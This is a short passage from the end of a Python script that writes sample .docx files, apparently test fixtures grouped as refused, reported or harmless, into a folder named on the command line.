    makers = {name: make for name, (make, _) in (REFUSED | REPORTED).items()} | HARMLESS
    for name, make in makers.items():
        (Path(folder) / f"{re.sub('_', '-', name)}.docx").write_bytes(make())


if __name__ == "__main__":
    main(sys.argv[1])
